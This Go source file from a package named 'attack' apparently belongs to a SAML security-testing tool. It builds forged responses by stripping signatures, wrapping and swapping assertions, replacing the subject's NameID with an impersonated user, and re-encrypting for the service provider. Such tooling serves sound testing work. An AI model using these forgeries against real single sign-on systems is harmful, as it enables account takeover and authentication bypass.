package attack

import (
	"crypto"
	"strings"

	"github.com/beevik/etree"
)

// elements has paths from the Response by the name of the element. The catalogue has
// other paths in full.
var elements = map[string]string{
	"Response":                ".",
	"root":                    ".",
	"Subject":                 "./Assertion/Subject",
	"NameID":                  "./Assertion/Subject/NameID",
	"SubjectConfirmation":     "./Assertion/Subject/SubjectConfirmation",
	"SubjectConfirmationData": "./Assertion/Subject/SubjectConfirmation/SubjectConfirmationData",
	"Conditions":              "./Assertion/Conditions",
	"AudienceRestriction":     "./Assertion/Conditions/AudienceRestriction",
	"Audience":                "./Assertion/Conditions/AudienceRestriction/Audience",
	"AuthnStatement":          "./Assertion/AuthnStatement",
	"AuthnContextClassRef":    "./Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef",
	"AttributeStatement":      "./Assertion/AttributeStatement",
	"StatusCode":              "./Status/StatusCode",
	"EncryptedData":           "./EncryptedAssertion/EncryptedData",
	"EncryptedKey":            "./EncryptedAssertion//EncryptedKey",
	"LogoutRequest":           ".",
	"LogoutResponse":          ".",
}

// path returns a path of the catalogue in etree's syntax.
func path(s string) string {
	first, rest, _ := strings.Cut(s, "/")
	at, ok := elements[first]
	switch {
	case !ok:
		return "./" + s
	case rest == "":
		return at
	}
	return at + "/" + rest
}

// find returns an element of the document or of the signature under attack. If there
// is none, it sets the draft's error and returns an empty element.
func (d *draft) find(s string) *etree.Element {
	var el *etree.Element
	switch part, isSignature := strings.CutPrefix(s, "ds:"); {
	case s == "signed":
		el = d.sig.parent
	case s == "ds:Signature":
		el = d.sig.el
	case isSignature:
		el = d.sig.el.FindElement(".//" + part)
	case strings.HasPrefix(s, "assertion/"): // which may be encrypted in the document
		el = d.asrt.FindElement(strings.Replace(s, "assertion", ".", 1))
	default:
		el = d.tree.Root().FindElement(path(s))
	}
	if el == nil {
		d.fail("the document has no %s", s)
		parent := etree.NewElement("missing")
		return child(parent, "missing")
	}
	return el
}

// node makes an element with attributes: names and values in turn.
func node(tag string, attrs ...string) *etree.Element {
	out := etree.NewElement(tag)
	for i := 0; i < len(attrs); i += 2 {
		out.CreateAttr(attrs[i], attrs[i+1])
	}
	return out
}

// child makes an element at the end of another.
func child(parent *etree.Element, tag string, attrs ...string) *etree.Element {
	out := node(tag, attrs...)
	parent.AddChild(out)
	return out
}

// insertBefore inserts el in front of at.
func insertBefore(at, el *etree.Element) { at.Parent().InsertChildAt(at.Index(), el) }

// swap replaces old with el.
func swap(old, el *etree.Element) {
	insertBefore(old, el)
	detach(old)
}

// detach removes an element from its parent.
func detach(el *etree.Element) *etree.Element {
	if el.Parent() != nil {
		el.Parent().RemoveChild(el)
	}
	return el
}

// without returns a copy of an element without its own Signature.
func without(el *etree.Element) *etree.Element {
	out := el.Copy()
	if s := out.SelectElement("Signature"); s != nil {
		out.RemoveChild(s)
	}
	return out
}

// changed returns s with the parts of an old value. A result that equals the
// old value is an error: for example, a text without letters has no other case.
func (d *draft) changed(s, old string) string {
	out := rewritten(s, old)
	if out == old {
		d.fail("the attack does not change %q", old)
	}
	return out
}

func (d *draft) parse(xml string) *etree.Element {
	doc := etree.NewDocument()
	if err := doc.ReadFromString(xml); err != nil || doc.Root() == nil {
		d.fail("parsing %q: %v", xml, err)
		return etree.NewElement("missing")
	}
	return doc.Root()
}

// attackerKey returns the key that no service provider trusts.
func (d *draft) attackerKey() crypto.Signer {
	if d.p.AttackerKey == nil {
		d.fail("Params.AttackerKey is required")
		return d.p.Key
	}
	return d.p.AttackerKey
}

// extensions adds an empty samlp:Extensions before Status (Core 3.2.2).
func (d *draft) extensions() *etree.Element {
	el := node("saml2p:Extensions")
	insertBefore(d.find("Status"), el)
	return el
}

// forge replaces the subject with the user that the attacker impersonates. An
// attacker can encrypt for the service provider, so forge encrypts again.
func (d *draft) forge() {
	d.forgeSubject(d.asrt)
	if old := d.tree.Root().SelectElement("EncryptedAssertion"); old != nil {
		swap(old, d.encrypted("saml2:EncryptedAssertion", d.plaintext(d.asrt), *d.encryption))
	}
}

// forgedAssertion returns an unsigned copy of the assertion about another user.
func (d *draft) forgedAssertion() *etree.Element {
	out := without(d.asrt)
	out.CreateAttr("ID", d.newID())
	d.forgeSubject(out)
	return out
}

func (d *draft) forgeSubject(assertion *etree.Element) {
	if name := d.p.IdentityAttribute; name != "" {
		for _, a := range assertion.FindElements("./AttributeStatement/Attribute") {
			if value := a.SelectElement("AttributeValue"); value != nil && a.SelectAttrValue("Name", "") == name {
				value.SetText(d.p.Forged)
			}
		}
	}
	if id := assertion.FindElement("./Subject/NameID"); id != nil {
		id.SetText(d.p.Forged)
		return
	}
	d.fail("the assertion has no NameID")
}

// forgedResponse returns an unsigned copy of the Response with a forged assertion.
func (d *draft) forgedResponse() *etree.Element {
	out := without(d.resp)
	out.CreateAttr("ID", d.newID())
	swap(out.SelectElement("Assertion"), d.forgedAssertion())
	return out
}
